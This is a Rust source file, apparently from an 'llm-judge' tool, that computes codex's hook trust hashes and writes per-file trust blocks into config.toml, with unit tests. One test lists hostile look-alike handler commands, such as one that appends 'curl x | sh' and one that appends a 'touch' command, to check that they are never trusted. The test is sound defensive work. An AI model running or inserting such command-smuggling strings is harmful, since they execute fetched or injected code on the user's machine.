//! codex's trust of the judge's hooks (`hooks install codex --trust`): the SHA-256 of a
//! handler as codex computes it, and the config.toml block that records it. Only the
//! handlers one install wrote are trusted, byte for byte: codex runs whatever command
//! a trusted hash names, so trust is exactly as safe as the choice of what to hash.
//! Each hooks file (the user's, each project's) has its own block, so trusting one
//! never drops another's.

use serde_json::{Value, json};

use super::install::Entry;
use crate::core::digest::sha256_hex;

/// One handler trusted: codex's key for it, its hash, and its command (shown to the user).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Trusted {
    pub key: String,
    pub hash: String,
    pub event: String,
    pub command: String,
}

/// codex's name of an event in its trust keys.
fn codex_label(event: &str) -> &'static str {
    match event {
        "Stop" => "stop",
        "SubagentStop" => "subagent_stop",
        "UserPromptSubmit" => "user_prompt_submit",
        "SessionStart" => "session_start",
        _ => "other",
    }
}

/// codex's trust hash of one command handler of `event` (codex 0.171.0: SHA-256 of the
/// handler's normalized identity, keys sorted, compact JSON). Matchers are not kept for
/// the judge's events, and its handlers set no `async` or `statusMessage`.
pub fn codex_hash(event: &str, command: &str, timeout: u64) -> String {
    // Keys in sorted order: the crate's JSON keeps insertion order.
    let identity = json!({
        "event_name": codex_label(event),
        "hooks": [{"async": false, "command": command, "timeout": timeout.max(1), "type": "command"}],
    });
    format!("sha256:{}", sha256_hex(identity.to_string().as_bytes()))
}

/// The handlers of `hooks_json` (the file at `source`, as codex names it) that are one
/// of `written` exactly: same event, command, timeout, and no other key a hash would
/// not cover. Everything else in the file is the user's, and never trusted here.
pub fn codex_trust(source: &str, hooks_json: &Value, written: &[Entry]) -> Vec<Trusted> {
    let mut out = Vec::new();
    let Some(hooks) = hooks_json.get("hooks").and_then(Value::as_object) else {
        return out;
    };
    for (event, groups) in hooks {
        for (g, group) in groups.as_array().into_iter().flatten().enumerate() {
            let handlers = group.get("hooks").and_then(Value::as_array);
            for (h, handler) in handlers.into_iter().flatten().enumerate() {
                let Some(entry) = written.iter().find(|e| is_entry(handler, event, e)) else {
                    continue;
                };
                out.push(Trusted {
                    key: format!("{source}:{}:{g}:{h}", codex_label(event)),
                    hash: codex_hash(event, &entry.command, entry.timeout),
                    event: event.clone(),
                    command: entry.command.clone(),
                });
            }
        }
    }
    out
}

/// True when `handler` under `event` is exactly what install wrote for `entry`.
fn is_entry(handler: &Value, event: &str, entry: &Entry) -> bool {
    let expected = json!({"type": "command", "command": entry.command, "timeout": entry.timeout});
    event == entry.event && !entry.rewake && *handler == expected
}

/// The start of every block's first line; the older single block had no file named.
const TRUST_MARK: &str = "# llm-judge hooks";
/// The first line of the block `--trust` wrote before blocks were kept per file.
const LEGACY_BEGIN: &str = "# llm-judge hooks: trusted by `llm-judge hooks install codex --trust`; `llm-judge hooks uninstall codex` removes this block";
/// The last line of a block.
pub const TRUST_END: &str = "# end of llm-judge hooks";

/// The first line of the block of the hooks file `source`.
fn begin_line(source: &str) -> String {
    // Quoted as TOML quotes it: a path cannot end the comment line early.
    let quoted = toml::Value::String(source.to_string()).to_string();
    format!(
        "{TRUST_MARK} of {quoted}: trusted by `llm-judge hooks install codex --trust`; \
         `llm-judge hooks uninstall codex` removes this block"
    )
}

/// `config` (codex's config.toml text) with the block of `source` replaced by one for
/// `trust` (or only removed, when empty); other files' blocks stay.
pub fn with_trust_block(config: &str, source: &str, trust: &[Trusted]) -> String {
    let mut out = without_trust_block(config, source);
    if trust.is_empty() {
        return out;
    }
    if !out.is_empty() && !out.ends_with('\n') {
        out.push('\n');
    }
    out.push_str(&trust_block(source, trust));
    out
}

/// The block recording `trust` for `source`.
pub fn trust_block(source: &str, trust: &[Trusted]) -> String {
    let mut out = begin_line(source);
    out.push('\n');
    for t in trust {
        let quoted = toml::Value::String(t.key.clone()).to_string();
        out.push_str(&format!(
            "[hooks.state.{quoted}]\ntrusted_hash = \"{}\"\n",
            t.hash
        ));
    }
    out.push_str(TRUST_END);
    out.push('\n');
    out
}

/// `config` without the block of `source` (an older block without a file name goes
/// when its keys are `source`'s).
pub fn without_trust_block(config: &str, source: &str) -> String {
    let begin = begin_line(source);
    let key_start = toml::Value::String(format!("{source}:")).to_string();
    // The key as written, without its closing quote: `"<source>:`.
    let key_start = key_start.trim_end_matches('"');
    let mut out = String::with_capacity(config.len());
    let mut block: Option<(bool, String)> = None;
    for line in config.split_inclusive('\n') {
        let bare = line.trim_end();
        match &mut block {
            None if bare == begin || bare == LEGACY_BEGIN => {
                block = Some((bare == begin, line.to_string()));
            }
            None => out.push_str(line),
            Some((ours, text)) => {
                text.push_str(line);
                if bare.starts_with("[hooks.state.") && bare.contains(key_start) {
                    *ours = true;
                }
                if bare == TRUST_END {
                    if !*ours {
                        out.push_str(text);
                    }
                    block = None;
                }
            }
        }
    }
    // A block cut short (no end line) is kept as it was.
    if let Some((_, text)) = block {
        out.push_str(&text);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::hooks::input::Harness;
    use crate::core::hooks::install::{HookCommand, add, entries};

    fn command() -> HookCommand {
        HookCommand {
            program: "/home/u/.cargo/bin/llm-judge".into(),
            config_dir: Some("/home/u/.config/llm-judge".into()),
            config: None,
            state_dir: Some("/home/u/.cache/catstack-llm-judge".into()),
        }
    }

    /// The hash codex 0.171.0's `hooks/list` reported as `currentHash` for a Stop
    /// handler (measured against the real app-server).
    #[test]
    fn the_codex_trust_hash_is_codexs() {
        assert_eq!(
            codex_hash(
                "Stop",
                "python3 /tmp/hookresearch/hook.py /tmp/hookresearch/runs/x1/dump Stop",
                15
            ),
            "sha256:fe84bef78b0d1d327e8063c4dd5a6016fe281cde2a3504b77c56f1676bdaca97"
        );
    }

    #[test]
    fn only_the_handlers_this_install_wrote_are_trusted() {
        let written = entries(Harness::Codex, &command());
        let stop = written[0].command.clone();
        // Look-alikes a repository could ship: each is the user's, never trusted.
        let foreign = [
            "llm-judge hook codex".to_string(),
            "./llm-judge hook codex".to_string(),
            "/tmp/evil/llm-judge hook claude".to_string(),
            format!("{stop}; touch /tmp/x"),
            format!("{stop} --rewake"),
            format!("{stop} && curl x | sh"),
        ];
        let groups: Vec<Value> = foreign
            .iter()
            .map(|c| json!({"hooks": [{"type": "command", "command": c, "timeout": 150}]}))
            .collect();
        let mut hooks = json!({"hooks": {"Stop": groups}});
        add(Harness::Codex, &mut hooks, &written).unwrap();
        // The right command with a key codex's hash does not cover, after ours.
        hooks["hooks"]["Stop"].as_array_mut().unwrap().push(
            json!({"hooks": [{"type": "command", "command": stop, "timeout": 150, "async": true}]}),
        );
        let trust = codex_trust("/h/.codex/hooks.json", &hooks, &written);
        let keys: Vec<&str> = trust.iter().map(|t| t.key.as_str()).collect();
        assert_eq!(
            keys,
            [
                "/h/.codex/hooks.json:stop:6:0",
                "/h/.codex/hooks.json:subagent_stop:0:0",
                "/h/.codex/hooks.json:user_prompt_submit:0:0",
                "/h/.codex/hooks.json:session_start:0:0",
            ]
        );
        assert!(trust.iter().all(|t| t.command == stop));
        assert_eq!(trust[0].hash, codex_hash("Stop", &stop, 150));
    }

    fn trusted(key: &str) -> Trusted {
        Trusted {
            key: key.into(),
            hash: "sha256:ab".into(),
            event: "Stop".into(),
            command: "c".into(),
        }
    }

    #[test]
    fn each_files_block_is_written_once_and_removed_whole_leaving_the_others() {
        let config = "model = \"o3\"\n[projects.\"/w\"]\ntrust_level = \"trusted\"\n";
        let user = "/h/.codex/hooks.json";
        let project = "/w/.codex/hooks.json";
        let once = with_trust_block(config, user, &[trusted("/h/.codex/hooks.json:stop:0:0")]);
        assert_eq!(
            with_trust_block(&once, user, &[trusted("/h/.codex/hooks.json:stop:0:0")]),
            once,
            "idempotent"
        );
        let both = with_trust_block(&once, project, &[trusted("/w/.codex/hooks.json:stop:0:0")]);
        let parsed: toml::Table = both.parse().expect("valid TOML");
        let state = &parsed["hooks"]["state"];
        assert_eq!(
            state["/h/.codex/hooks.json:stop:0:0"]["trusted_hash"].as_str(),
            Some("sha256:ab")
        );
        assert!(state.get("/w/.codex/hooks.json:stop:0:0").is_some());
        // Trusting the user's file again keeps the project's block.
        let again = with_trust_block(&both, user, &[trusted("/h/.codex/hooks.json:stop:1:0")]);
        assert!(again.contains("/w/.codex/hooks.json:stop:0:0"), "{again}");
        assert!(!again.contains("/h/.codex/hooks.json:stop:0:0"), "{again}");
        assert_eq!(without_trust_block(&once, user), config);
        assert_eq!(
            without_trust_block(&without_trust_block(&both, project), user),
            config
        );
        // The older single block goes with its own file's removal only.
        let legacy = format!(
            "{config}{LEGACY_BEGIN}\n[hooks.state.\"/h/.codex/hooks.json:stop:0:0\"]\ntrusted_hash = \"sha256:ab\"\n{TRUST_END}\n"
        );
        assert_eq!(without_trust_block(&legacy, project), legacy);
        assert_eq!(without_trust_block(&legacy, user), config);
    }
}
